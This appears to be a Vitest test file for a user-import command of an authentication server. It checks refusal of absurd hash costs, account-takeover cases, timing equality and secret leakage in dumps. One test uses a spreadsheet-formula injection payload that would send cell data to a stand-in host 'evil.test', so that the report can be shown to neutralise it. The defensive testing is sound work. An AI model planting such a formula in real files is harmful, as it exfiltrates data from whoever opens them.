import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Piscina } from 'piscina';
import { afterAll, beforeEach, describe, expect, test, vi } from 'vitest';
import type { Derivation } from '#server/credentials/argon2-thread.ts';
import { formerDigest } from '#server/credentials/former-digest.ts';
import { useImportPepper } from '#server/credentials/password-derivation.ts';
import { runCommand } from '#test/support/command.ts';
import { freshDatabase } from '#test/support/database.ts';
import { serverOn } from '#test/support/demo-app.ts';
import { TEST_MASTER_KEY } from '#test/support/master-key.ts';
import { needlesOf } from '#test/support/secret-search.ts';

// Every derivation is a run of the pool of threads.
const derivation = vi.spyOn(Piscina.prototype, 'run');
const db = await freshDatabase();
const { send } = await serverOn(db, { graphql: false });
await db.admin`update rowseal_private.settings set password_memory_kib = 7168, password_iterations = 1`;
await db.admin`
  insert into rowseal_private.identity_providers (id, kind, name, issuer, client_id, client_secret_jwe, scope)
  values ('google', 'oidc', 'Google', 'https://accounts.google.com', 'c', 'a..b.c.d', 'openid')`;

const PASSWORD = 'correct horse pässword';
const VECTORS: { name: string; hash: string }[] = JSON.parse(
  readFileSync(path.resolve(import.meta.dirname, '../credentials/former-vectors.json'), 'utf8'),
);
const hashOf = (name: string) => VECTORS.find((vector) => vector.name === name)?.hash ?? '';
const BCRYPT = hashOf('bcrypt $2b$ of Supabase, Auth0');
const EXPORTS = path.resolve(import.meta.dirname, '../support/exports');
const folder = mkdtempSync(path.join(tmpdir(), 'rowseal-imports-'));
afterAll(() => rmSync(folder, { recursive: true }));
let runs = 0;

/** Imports, and tells what was printed and the report, each of its lines. */
async function imported(users: object[] | string, ...more: string[]) {
  const file = typeof users === 'string' ? users : path.join(folder, `${runs}.jsonl`);
  const report = path.join(folder, `${runs++}.csv`);
  if (typeof users !== 'string') writeFileSync(file, users.map((user) => `${JSON.stringify(user)}\n`).join(''));
  const env = {
    DATABASE_URL: db.adminUrl,
    ROWSEAL_MASTER_KEY: Buffer.from(TEST_MASTER_KEY).toString('base64'),
    ROWSEAL_IMPORT_PEPPER: 'of Devise',
  };
  const before = process.exitCode;
  const { output } = await runCommand(env, 'import', file, '--report', report, ...more);
  process.exitCode = before;
  return { output, report: readFileSync(report, 'utf8').trim().split('\n').slice(1) };
}

const logIn = (email: string, password = PASSWORD, more: object = {}) =>
  send({ method: 'POST', url: '/v1/auth/token', payload: { provider: 'password', email, password, ...more } });
const person = (email: string, more: object = {}) => ({ email, email_verified: true, password_hash: BCRYPT, ...more });
const register = (email: string, password: string) =>
  send({ method: 'POST', url: '/v1/auth/register', payload: { email, password } });

beforeEach(async () => {
  await db.admin`delete from rowseal_private.throttles`;
  derivation.mockClear();
});

describe('a cost that another system, or a file, has chosen', () => {
  test('is refused by the import, and by the table', async () => {
    const absurd = BCRYPT.replace('$04$', '$31$');
    const { report } = await imported([
      person('absurd@cost.test', { password_hash: absurd }),
      person('usual@cost.test'),
    ]);
    expect(report.find((line) => line.includes('absurd'))).toContain('refused');
    // The control: one that may be.
    expect(report.find((line) => line.includes('usual'))).toContain('imported');
    for (const former of [
      { algorithm: 'bcrypt', cost: 31, salt: '0'.repeat(32) },
      { algorithm: 'scrypt', cost: 30, block_size: 8, parallelism: 1, salt: '00', length: 64 },
      {
        algorithm: 'argon2id',
        memory_kib: 2 ** 31 - 1,
        iterations: 1,
        parallelism: 1,
        salt: '0'.repeat(16),
        length: 32,
      },
    ])
      await expect(
        db.admin`update rowseal_private.passwords set former = ${JSON.stringify(former)}::text::jsonb`,
      ).rejects.toMatchObject({ code: '23514' });
  });

  test('does not stall the server, though it stands in a row', async () => {
    await imported([person('stored@cost.test')]);
    await db.admin`alter table rowseal_private.passwords drop constraint passwords_former_check`;
    const absurd = { algorithm: 'scrypt', cost: 30, block_size: 8, parallelism: 1, salt: '00', length: 64 };
    await db.admin`
      update rowseal_private.passwords set former = ${JSON.stringify(absurd)}::text::jsonb
       where user_id = (select id from rowseal.users where email = 'stored@cost.test')`;
    derivation.mockClear();
    expect((await logIn('stored@cost.test')).body.code).toBe('invalid_credentials');
    expect((await send({ url: '/healthz' })).status).toBe(200);
    expect(derivation.mock.calls.map(([task]) => (task as Derivation).former)).toEqual([undefined]);
    // The control: derived as it is stored, it asks for a terabyte.
    expect(() => formerDigest(PASSWORD, absurd as never)).toThrow();
    await db.admin`delete from rowseal.users where email = 'stored@cost.test'`;
    await db.admin`
      alter table rowseal_private.passwords add constraint passwords_former_check
        check (former is null or rowseal_private.is_former_hash(former))`;
  });
});

test('an id that is a formula is text in the report, which a spreadsheet opens', async () => {
  const formula = '=HYPERLINK("http://evil.test?"&A1)';
  const { report } = await imported([
    person('formula@x.test', { id: formula }),
    person('formula@x.test', { id: '+1' }),
  ]);
  for (const line of report) expect(line.split(',')[2]).toMatch(/^("')|^'/);
  // The control: as it came, it would be one.
  expect(`"${formula}"`).toMatch(/^"=/);
  const [kept] = await db.admin`select external_id from rowseal_private.imported_users where external_id ~ 'evil'`;
  expect(kept).toEqual({ external_id: formula });
});

test('addresses that differ in case are one account, that of the first line', async () => {
  const another = hashOf('bcrypt of WordPress').replace(/.$/, 'x');
  const { report } = await imported([
    person('Twin@x.test', { id: 'a' }),
    person('tWIN@X.test', { id: 'b', password_hash: another }),
  ]);
  expect(report.find((line) => line.includes(',b,'))).toMatch(/refused,,its address is that of \S+ 1$/);
  expect((await logIn('twin@x.test')).status).toBe(200);
  // Nor in another file, nor under another name for where it came from.
  const later = await imported(
    [person('TWIN@x.test', { id: 'c', password_hash: another, email_verified: false })],
    '--source',
    'later',
  );
  expect(later.report[0]).toContain('refused');
  expect((await logIn('twin@x.test')).status).toBe(200);
  // The control: another address is another account.
  expect((await imported([person('twin2@x.test', { id: 'd' })])).report[0]).toContain('imported');
});

describe('an account that exists', () => {
  const OWN = 'the password that they chose here';
  const theirs = (email: string, subject: string, more: object = {}) =>
    person(email, { identities: [{ provider: 'google', subject }], totp: 'JBSWY3DPEHPK3PXPJBSWY3DP', ...more });
  const identities = async (email: string) =>
    (
      await db.admin`select subject from rowseal_private.identities join rowseal.users on users.id = user_id
                     where email = ${email} and provider <> 'password'`
    ).map(({ subject }) => subject);

  test('keeps its password, and gets no identity or second factor, where one side has not verified the address', async () => {
    await register('victim@own.test', OWN);
    await register('squatted@own.test', OWN);
    await db.admin`update rowseal.users set email_verified_at = now() where email = 'victim@own.test'`;
    const { report } = await imported([
      theirs('victim@own.test', 'evil-1', { email_verified: false, totp: undefined }),
      theirs('squatted@own.test', 'evil-2'),
    ]);
    expect(report.filter((line) => line.includes('refused'))).toHaveLength(2);
    for (const email of ['victim@own.test', 'squatted@own.test']) {
      expect(await identities(email)).toEqual([]);
      expect((await logIn(email)).body.code).toBe('invalid_credentials');
      expect((await logIn(email, OWN)).status).toBe(200);
    }
  });

  test('verified on both sides, keeps its password and its factors, and its owner is told of the identity', async () => {
    await register('both@own.test', OWN);
    await db.admin`update rowseal.users set email_verified_at = now() where email = 'both@own.test'`;
    const { report } = await imported([theirs('both@own.test', 'mine')]);
    expect(report[0]).toContain('linked');
    // The control of the test before.
    expect(await identities('both@own.test')).toEqual(['mine']);
    expect((await logIn('both@own.test')).body.code).toBe('invalid_credentials');
    expect((await logIn('both@own.test', OWN)).status).toBe(200);
    const [mailed] = await db.admin`
      select count(*)::int as n from rowseal_private.audit_events
       where kind = 'identity_linked' and details ->> 'reason' = 'imported'`;
    expect(mailed?.['n']).toBe(1);
  });

  test('is not reached by an identity of its own in a line of another address', async () => {
    const { report } = await imported([theirs('thief@own.test', 'mine')]);
    expect(report[0]).toContain('an account has its identity');
    expect((await logIn('thief@own.test')).body.code).toBe('invalid_credentials');
    // The control: with an identity of nobody.
    expect((await imported([theirs('honest@own.test', 'another')])).report[0]).toContain('imported');
  });
});

describe('an address that nobody has', () => {
  test('costs what an imported password costs: the same derivation, of a salt that is its own and stays', async () => {
    await db.admin`delete from rowseal.users`;
    await imported([person('known@same.test', { password_hash: BCRYPT.replace('$04$', '$10$') })]);
    const tasks = async (email: string) => {
      derivation.mockClear();
      expect((await logIn(email, 'a guess')).body.code).toBe('invalid_credentials');
      return derivation.mock.calls.map(([task]) => task as Derivation);
    };
    const shape = (all: Derivation[]) =>
      all.map(({ former, argon2id }) => ({
        ...former?.hash,
        salt: former?.hash.salt.length,
        argon2id: argon2id === undefined,
      }));
    const [known, unknown, again] = [
      await tasks('known@same.test'),
      await tasks('nobody@same.test'),
      await tasks('Nobody@same.test'),
    ];
    expect(shape(known)).toEqual([{ algorithm: 'bcrypt', cost: 10, salt: 32, argon2id: true }]);
    expect(shape(unknown)).toEqual(shape(known));
    expect(again[0]?.former).toEqual(unknown[0]?.former);
    expect(unknown[0]?.former?.hash.salt).not.toBe(known[0]?.former?.hash.salt);
    // The control: where passwords are argon2id alone, so is that of nobody.
    await db.admin`update rowseal_private.passwords set former = null, memory_kib = 7168, iterations = 1, parallelism = 1`;
    expect(shape(await tasks('nobody@same.test'))).toEqual([{ salt: undefined, argon2id: false }]);
  });

  test('and somebody who has to wait, cost nothing: the control is above', async () => {
    await imported([person('waits@same.test')]);
    await logIn('waits@same.test', 'a guess');
    await db.admin`
      update rowseal_private.throttles set attempts = 1000, blocked_until = now() + interval '1 hour'`;
    derivation.mockClear();
    expect((await logIn('waits@same.test')).status).toBe(429);
    expect(derivation).not.toHaveBeenCalled();
  });
});

describe('the holder of a dump', () => {
  /** Every row that Rowseal keeps, as text. */
  async function dump(): Promise<string> {
    const tables = await db.admin<{ name: string }[]>`
      select c.oid::regclass::text as name from pg_class as c
       where c.relkind in ('r', 'p') and not c.relispartition and c.relnamespace::regnamespace::text ~ '^(rowseal|graphile_worker)'`;
    const rows = [];
    for (const { name } of tables)
      rows.push(...(await db.admin.unsafe(`select row_to_json(each)::text as row from ${name} as each`)));
    return rows.map(({ row }) => row).join('\n');
  }
  const KEY = 'jxspr8Ki0RYycVU8zykbdLGjFQ3McFUH0uiiTvC8pVMXAn210wjLNmdZJzxUECKbm0QsEmYUSDzZvpjeJ9WmXA==';

  test('finds neither the signer key of Firebase nor the pepper of Devise, nor a digest that was imported', async () => {
    await imported(
      path.join(EXPORTS, 'firebase-users.json'),
      '--from',
      'firebase',
      '--firebase-config',
      path.join(EXPORTS, 'firebase-hash-config.txt'),
    );
    await imported([
      person('fb@dump.test', { id: 'fb', password_hash: hashOf('scrypt of Firebase, kept by Supabase') }),
    ]);
    const dumped = Buffer.from(await dump());
    const found = (secret: Buffer) => needlesOf('it', secret).filter(({ bytes }) => dumped.includes(bytes));
    expect(found(Buffer.from(KEY, 'base64'))).toEqual([]);
    expect(found(Buffer.from('of Devise'))).toEqual([]);
    expect(
      found(
        Buffer.from(
          'lSrfV15cpx95/sZS2W9c9Kp6i/LVgQNDNC/qzrCnh1SAyZvqmZqAjTdn3aoItz+VHjoZilo78198JAdRuid5lQ==',
          'base64',
        ),
      ),
    ).toEqual([]);
    // The control: a salt is there.
    expect(found(Buffer.from('42xEC+ixf3L2lw==', 'base64'))).not.toEqual([]);
  });

  test('logs in with nothing that is in it, nor with a hash of the system before', async () => {
    await imported([person('old@dump.test')]);
    const [row] = await db.admin`
      select verifier from rowseal_private.passwords join rowseal.users on id = user_id where email = 'old@dump.test'`;
    for (const held of [
      BCRYPT,
      BCRYPT.slice(-31),
      row?.['verifier'].toString('hex'),
      row?.['verifier'].toString('latin1'),
    ])
      expect((await logIn('old@dump.test', held)).body.code).toBe('invalid_credentials');
    // The control.
    expect((await logIn('old@dump.test')).status).toBe(200);
  });
});

test('a password with a pepper is known by the pepper alone, which no row has', async () => {
  const typed = 'correct horse';
  const { report } = await imported(
    [person('devise@x.test', { password_hash: hashOf('bcrypt $2a$ of Devise') })],
    '--peppered',
  );
  expect(report[0]).toContain('imported');
  useImportPepper(undefined);
  expect((await logIn('devise@x.test', typed)).body.code).toBe('invalid_credentials');
  // The control: with the pepper it is.
  useImportPepper(' pässword');
  expect((await logIn('devise@x.test', typed)).status).toBe(200);
  useImportPepper(undefined);
  // It is a password like any other then.
  expect((await logIn('devise@x.test', typed)).status).toBe(200);
});

test('what an import prints and reports repeats no hash and no password, whatever a file holds', async () => {
  const secrets = [
    '$2b$31$SECRETsecretSECRETsecreuSECRETsecretSECRETsecretSECRETse',
    'plain SECRET password',
    '{"SECRET": ',
  ];
  const file = path.join(folder, 'broken.jsonl');
  const lines = secrets
    .slice(0, 2)
    .map((password_hash, nth) => JSON.stringify({ email: `s${nth}@x.test`, password_hash }));
  writeFileSync(file, [...lines, secrets[2]].join('\n'));
  const { output, report } = await imported(file);
  expect(report.map((line) => line.split(',').at(-3))).toEqual(['refused', 'refused', 'refused']);
  expect(`${output}${report.join('')}`).not.toMatch(/SECRET/i);
  // The control: an id is repeated.
  expect((await imported([person('control@x.test', { id: 'SECRET' })])).report[0]).toContain('SECRET');
});
